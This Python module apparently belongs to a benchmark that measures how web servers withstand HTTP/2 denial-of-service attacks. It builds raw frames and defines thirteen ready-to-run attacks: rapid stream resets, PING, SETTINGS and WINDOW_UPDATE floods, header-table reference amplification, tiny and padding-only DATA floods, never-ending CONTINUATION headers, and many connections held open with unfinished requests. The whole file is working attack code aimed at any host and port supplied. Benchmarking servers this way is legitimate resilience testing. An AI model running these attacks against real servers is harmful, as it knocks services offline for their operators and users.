"""Attacks over HTTP/2."""

from __future__ import annotations

import socket
from collections.abc import Callable, Generator
from contextlib import closing, suppress

from bench.attacks import Attack, Floor, Row, Target
from bench.attacks.http1 import exchange

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
MOST = 1_000_000  # bytes of an attack that its server does not end


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


START = PREFACE + frame(SETTINGS) + frame(SETTINGS, 1)
GET = b"\x82\x86\x84\x41\x01a"  # GET http / on the host a
POST = b"\x83" + GET[1:]
PING_FRAME = frame(PING, 0, 0, b"12345678")


def opened(target: Target) -> socket.socket:
    """A connection whose settings were exchanged."""
    sock = socket.create_connection((target.host, target.port), timeout=5)
    sock.sendall(START)
    return sock


def pour(make: Callable[[int], bytes], first: bytes = b"") -> Attack:
    """One connection: `first`, then what `make` gives for 0, 1, 2... until enough has left, or the server ends it."""

    def run(target: Target) -> Generator[int, None, None]:
        data = bytearray(first)
        number = 0
        while len(data) < MOST:
            data += make(number)
            number += 1
        with closing(opened(target)) as sock:
            yield 0
            yield exchange(sock, bytes(data))

    return run


def bodies(number: int) -> bytes:
    """A request whose body its application does not read."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, GET) + frame(DATA, END_STREAM, stream, bytes(10_000))


def resets(number: int) -> bytes:
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8)))


# One field of 4,000 bytes goes to the table, and each reference to it is one byte.
LARGE = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000)


def references(number: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, GET + b"\xbe" * 15)


def held_open(piece: bytes) -> Attack:
    """Many connections that each send `piece`, and then nothing more."""

    def run(target: Target) -> Generator[int, None, None]:
        socks = [opened(target) for _ in range(200)]
        yield 0
        for sock in socks:
            sock.sendall(piece)
        yield len(socks) * len(piece)
        for sock in socks:
            with suppress(OSError):
                sock.close()

    return run


def unfinished(target: Target) -> Generator[int, None, None]:
    """Requests without their ends on a few connections, which stay open: each is answered, and lingers."""
    socks = [opened(target) for _ in range(12)]
    data = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, GET) for number in range(96))
    yield 0
    for sock in socks:
        sock.sendall(data)
    yield len(socks) * len(data)
    for sock in socks:
        sock.close()


OPEN_HEAD = frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\xff\x7f" + b"v" * 15000)

ROWS: list[Row] = [
    Row("h2-ping", "HTTP/2: PING", "plain", pour(lambda number: PING_FRAME)),
    Row("h2-settings", "HTTP/2: SETTINGS", "plain", pour(lambda number: frame(SETTINGS))),
    Row("h2-rapid-reset", "HTTP/2: requests that are reset at once", "plain", pour(resets)),
    Row("h2-requests", "HTTP/2: requests", "plain", pour(lambda n: frame(HEADERS, 5, 2 * n + 1, GET))),
    Row("h2-references", "HTTP/2: references to one large field", "plain", pour(references, LARGE)),
    Row("h2-early", "HTTP/2: bodies that nobody reads", "plain", pour(bodies)),
    Row(
        "h2-empty-data",
        "HTTP/2: empty DATA",
        "plain",
        pour(lambda number: frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST)),
    ),
    Row(
        "h2-small-data",
        "HTTP/2: DATA of one byte",
        "plain",
        pour(lambda number: frame(DATA, 0, 1, b"a"), frame(HEADERS, END_HEADERS, 1, POST)),
    ),
    Row(
        "h2-padding",
        "HTTP/2: DATA of padding alone",
        "plain",
        pour(lambda number: frame(DATA, PADDED, 1, b"\x01\x00"), frame(HEADERS, END_HEADERS, 1, POST)),
    ),
    Row(
        "h2-windows",
        "HTTP/2: WINDOW_UPDATE",
        "plain",
        pour(lambda number: frame(WINDOW_UPDATE, 0, 0, bytes((0, 0, 0, 1)))),
    ),
    Row("h2-unknown", "HTTP/2: frames of an unknown type", "plain", pour(lambda number: frame(200))),
    Row(
        "h2-unfinished",
        "HTTP/2: the heads of 96 requests, 12 connections",
        "plain",
        unfinished,
        requests=12 * 96,
        floor=Floor("requests of 15 bytes that are answered, and open until their ends come", 3, 70),
    ),
    Row("h2-open-head", "HTTP/2: heads that never end", "plain", held_open(OPEN_HEAD)),
]
